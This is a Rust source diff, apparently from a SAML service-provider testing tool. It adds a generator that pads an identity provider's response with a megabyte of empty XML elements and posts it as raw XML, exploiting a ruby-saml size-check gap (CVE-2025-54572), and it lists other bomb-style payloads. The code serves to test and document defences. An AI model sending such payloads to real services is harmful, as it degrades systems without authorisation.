@@ -103,6 +103,7 @@ pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
         ignorable: false,
         by_redirect: false,
         crash: false,
+        oversize: false,
         encoded: posted,
         shown: format!(
             "<!-- raw DEFLATE, then base64: inflates to {} MiB -->\n<!-- {} MiB of line feeds -->\n{response}",
@@ -120,6 +121,54 @@ pub fn deflate_bomb_by_redirect(f: &Forge) -> Result<Burden, Skip> {
     Ok(Burden {
         by_redirect: true,
         ..deflate_bomb(f)?
+    })
+}
+
+/// How many bytes of empty elements the raw-XML burden carries: four times the 250,000 bytes
+/// ruby-saml takes, and in REXML's time about 2.8 s here (ruby-saml 1.13.0, Ruby 3.1).
+pub const RAW_XML_PADDING: usize = 1 << 20;
+
+/// How many `<x/>` each `<y>` of the raw-XML padding holds: kept in groups, as a document-order
+/// walk quadratic in siblings (npm xpath) would otherwise cost minutes.
+const RAW_XML_GROUP: usize = 100;
+
+/// The IdP's own response, posted as raw XML instead of base64, with [`RAW_XML_PADDING`]
+/// bytes of empty elements (`<y>` of [`RAW_XML_GROUP`] `<x/>`, about 260,000 elements) right
+/// after the Response's Issuer. ruby-saml before 1.18.1 took a message that does not look
+/// like base64 as the XML itself and checked the size only of base64 messages, so any size
+/// of raw XML reached REXML (CVE-2025-54572). The yardstick is as many random letters and
+/// digits in base64: an SP with a size limit refuses it, one without decodes text no parser
+/// takes. An SP that refuses non-base64 messages, or bounds every message before parsing it,
+/// answers both at once; a body limit's 413 is that defence.
+pub fn raw_xml_oversize(f: &Forge) -> Result<Burden, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let response = doc.tree.root_element();
+    let at = bytes::child(response, ASSERTION_NS, "Issuer").map_or_else(
+        || bytes::after_start_tag(doc.src, response),
+        |i| i.range().end,
+    );
+    let group = format!("<y>{}</y>", "<x/>".repeat(RAW_XML_GROUP));
+    let groups = RAW_XML_PADDING / group.len();
+    let with = |padding: String| bytes::splice(doc.src, vec![bytes::insert(at, padding)]);
+    let raw = with(group.repeat(groups));
+    Ok(Burden {
+        yardstick: random_text_as_long_as(raw.len()),
+        yardstick_is: "same-size random letters and digits",
+        ratio: SAME_SIZE_RATIO,
+        floor: BURDEN_FLOOR,
+        // Outside the signed Assertion: an SP may take raw XML and sign the user in rightly,
+        // at whatever cost; only time tells.
+        ignorable: true,
+        by_redirect: false,
+        crash: false,
+        oversize: true,
+        shown: with(format!(
+            "<!-- posted as raw XML, not base64 --><y><x/><!-- … {} more <x/> --></y><!-- … {} more <y> ({} bytes of them in all) -->",
+            RAW_XML_GROUP - 1,
+            groups - 1,
+            group.len() * groups
+        )),
+        encoded: raw,
     })
 }
 
@@ -181,6 +230,7 @@ pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
         ignorable: false,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -235,6 +285,7 @@ pub fn entity_expansion(f: &Forge) -> Result<Burden, Skip> {
         ignorable: true,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -341,6 +392,7 @@ pub fn large_signed_info(f: &Forge) -> Result<Burden, Skip> {
         ignorable: false,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -432,6 +484,7 @@ pub fn xslt_bomb(f: &Forge) -> Result<Burden, Skip> {
         ignorable: false,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -501,6 +554,7 @@ pub fn xpath_bomb(f: &Forge) -> Result<Burden, Skip> {
         ignorable: false,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -602,6 +656,7 @@ pub fn encrypted_key_cycle(f: &Forge) -> Result<Burden, Skip> {
         ignorable: true,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -677,6 +732,7 @@ pub fn many_attributes(f: &Forge) -> Result<Burden, Skip> {
         ignorable: false,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -729,6 +785,7 @@ pub fn end_tag_whitespace(f: &Forge) -> Result<Burden, Skip> {
         ignorable: true,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -807,6 +864,7 @@ pub fn manifest_device(f: &Forge) -> Result<Burden, Skip> {
         ignorable: true,
         by_redirect: false,
         crash: false,
+        oversize: false,
     })
 }
 
@@ -826,6 +884,7 @@ fn crash_probe(burden: String, yardstick: String, yardstick_is: &'static str) ->
         ignorable: true,
         by_redirect: false,
         crash: true,
+        oversize: false,
     }
 }
 
